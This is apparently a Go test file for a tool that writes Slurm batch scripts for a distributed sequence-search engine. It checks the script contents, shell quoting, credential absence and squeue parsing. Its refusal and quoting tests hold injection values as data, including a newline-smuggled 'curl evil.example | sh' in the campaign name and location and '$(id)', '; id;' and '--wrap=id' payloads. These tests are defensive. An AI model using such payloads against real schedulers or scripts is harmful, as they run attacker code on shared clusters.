package hpccmd

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func testJob() Job {
	return Job{Campaign: "s3://campaigns/team-a/nt-vs-env", CampaignName: "nt-vs-env", Site: "hpc-a", Nodes: 4, TasksPerNode: 32,
		CPUsPerTask: 2, Partition: "long", Time: "12:00:00", Account: "bio-42", Engine: "/opt/blastfleet/bin/blastfleet-engine",
		Launcher: "auto", Output: "blastfleet.nt-vs-env.hpc-a-%j.log", Extra: []string{"--qos=high"}}
}

// The script is one a Slurm user recognises: the allocation in #SBATCH
// lines, the engine under srun or mpirun against the campaign, the
// partition id from the site and the job id, and no credentials.
func TestScript(t *testing.T) {
	j := testJob()
	s, err := j.Script()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"#!/bin/bash\n#SBATCH --job-name=blastfleet.nt-vs-env.hpc-a\n",
		"#SBATCH --nodes=4\n", "#SBATCH --ntasks-per-node=32\n", "#SBATCH --cpus-per-task=2\n",
		"#SBATCH --partition=long\n", "#SBATCH --time=12:00:00\n", "#SBATCH --account=bio-42\n", "#SBATCH --qos=high\n",
		"#SBATCH --output=blastfleet.nt-vs-env.hpc-a-%j.log\n",
		"campaign='s3://campaigns/team-a/nt-vs-env'\n", "engine='/opt/blastfleet/bin/blastfleet-engine'\n",
		`srun --mpi=pmix`, `--partition-id "$site-$SLURM_JOB_ID"`, `--site "$site"`, `export BLASTFLEET_SITE="$site"`,
		// Every task searches; the master is a rank more.
		`ranks=$((SLURM_NTASKS + 1))`, `--overcommit --ntasks="$ranks"`, `mpirun -np "$ranks" --oversubscribe`,
		"export OMPI_MCA_mpi_yield_when_idle=1\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("script lacks %q:\n%s", want, s)
		}
	}
	for _, secret := range []string{"AWS_SECRET_ACCESS_KEY=", "AWS_ACCESS_KEY_ID="} {
		if strings.Contains(s, secret) {
			t.Errorf("script sets %s", secret)
		}
	}
	if strings.Contains(s, "--database-replica") || strings.Contains(s, "BLASTFLEET_REPLICA") {
		t.Errorf("script without replicas names them:\n%s", s)
	}
	// Replicas reach the engine, quoted as the shell reads them.
	j.DatabaseReplicas = []string{"s3://eu/nt", "/scratch/o'brien/nt"}
	s3, err := j.Script()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"--cache-dir \"$cache\" \\\n  --database-replica 's3://eu/nt' \\\n  --database-replica '/scratch/o'\\''brien/nt'\n",
		"# Database replica N reads BLASTFLEET_REPLICA<N>_AWS_* (else AWS_*).\n",
	} {
		if !strings.Contains(s3, want) {
			t.Errorf("script lacks %q:\n%s", want, s3)
		}
	}
	s = s3 // bash parses it below
	// Without the optional values their lines are absent.
	j.Partition, j.Time, j.Account, j.Extra = "", "", "", nil
	s2, err := j.Script()
	if err != nil {
		t.Fatal(err)
	}
	for _, absent := range []string{"--partition=", "--time=", "--account="} {
		if strings.Contains(s2, absent) {
			t.Errorf("script without %s still has it:\n%s", absent, s2)
		}
	}
	bashParses(t, s)
}

// bashParses checks that bash reads the script (bash -n).
func bashParses(t *testing.T, script string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "job.sbatch")
	if err := os.WriteFile(path, []byte(script), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
		t.Errorf("bash -n: %v\n%s", err, out)
	}
}

// A value that would break the script is refused, naming the flag.
func TestScriptRefusesBadValues(t *testing.T) {
	for flag, mutate := range map[string]func(*Job){
		"--site":             func(j *Job) { j.Site = "HPC A" },
		"--nodes":            func(j *Job) { j.Nodes = 0 },
		"--ntasks-per-node":  func(j *Job) { j.TasksPerNode = 0 },
		"--partition":        func(j *Job) { j.Partition = "long\n#SBATCH --x" },
		"--time":             func(j *Job) { j.Time = "1 day" },
		"--launcher":         func(j *Job) { j.Launcher = "aprun" },
		"--sbatch":           func(j *Job) { j.Extra = []string{"qos=high"} },
		"--database-replica": func(j *Job) { j.DatabaseReplicas = []string{"s3://eu/nt\n--x"} },
		"--sbatch ":          func(j *Job) { j.Extra = []string{"--qos=high --wrap=id"} },
		// From the plan, which whoever can write the ledger writes.
		"campaign name":     func(j *Job) { j.CampaignName = "nt\ncurl evil.example | sh\n#" },
		"campaign name ":    func(j *Job) { j.CampaignName = "nt;id" },
		"campaign location": func(j *Job) { j.Campaign = "s3://campaigns/nt\ncurl evil.example | sh" },
	} {
		j := testJob()
		mutate(&j)
		if _, err := j.Script(); err == nil || !strings.Contains(err.Error(), strings.TrimSpace(flag)) {
			t.Errorf("%s: err = %v, want one naming the flag", flag, err)
		}
	}
}

func TestParseSqueue(t *testing.T) {
	out := "12|blastfleet.nt.hpc-a|RUNNING|1:02|12:00:00|4|node[1-4]\n" +
		"13|blastfleet.nt.hpc-b|PENDING|0:00|1:00:00|2|(Priority)\n" +
		"14|blastfleet.nt-x.hpc-a|RUNNING|0:10|1:00|1|node9\n" +
		"15|unrelated|RUNNING|0:10|1:00|1|node9\n"
	all := parseSqueue(out, "nt", "")
	if len(all) != 2 || all[0].ID != "12" || all[1].site("nt") != "hpc-b" || all[1].Reason != "(Priority)" {
		t.Errorf("all sites: %+v", all)
	}
	if one := parseSqueue(out, "nt", "hpc-a"); len(one) != 1 || one[0].ID != "12" {
		t.Errorf("site hpc-a: %+v", one)
	}
}

// Odd but valid values (quotes, spaces, '$', backquotes in locations and
// paths) give a script bash parses, with every value a single-quoted word
// and nothing run: bash -x on the value lines shows no command but the
// assignments.
func TestScriptQuotesOddValues(t *testing.T) {
	j := testJob()
	j.Campaign = "/scratch/o'brien/$(id) `id` ; camp"
	j.Engine = "/opt/my engine/$HOME/blastfleet-engine"
	j.CacheDir = "/tmp/a'b $c"
	j.DatabaseReplicas = []string{"/data/x'; id; '"}
	j.CampaignName = "Run_2-B"
	j.Extra = []string{"--exclude=node[1-3]", "--constraint=(a&b)|c"}
	s, err := j.Script()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`campaign='/scratch/o'\''brien/$(id) ` + "`id`" + ` ; camp'` + "\n",
		"# '/scratch/o'\\''brien/$(id) `id` ; camp'\n",
		`engine='/opt/my engine/$HOME/blastfleet-engine'` + "\n",
		`cache='/tmp/a'\''b $c'/blastfleet-"$SLURM_JOB_ID"` + "\n",
		`--database-replica '/data/x'\''; id; '\'''` + "\n",
		"#SBATCH --job-name=blastfleet.Run_2-B.hpc-a\n",
		"#SBATCH --exclude=node[1-3]\n", "#SBATCH --constraint=(a&b)|c\n",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("script lacks %q:\n%s", want, s)
		}
	}
	bashParses(t, s)
	// The assignments evaluate to the values themselves.
	var vars []string
	for _, line := range strings.Split(s, "\n") {
		if strings.HasPrefix(line, "campaign=") || strings.HasPrefix(line, "engine=") {
			vars = append(vars, line)
		}
	}
	out, err := exec.Command("bash", "-c", strings.Join(vars, "\n")+"\nprintf '%s\\n' \"$campaign\" \"$engine\"").CombinedOutput()
	if err != nil || string(out) != j.Campaign+"\n"+j.Engine+"\n" {
		t.Errorf("values read back as %q (%v), want %q and %q", out, err, j.Campaign, j.Engine)
	}
}
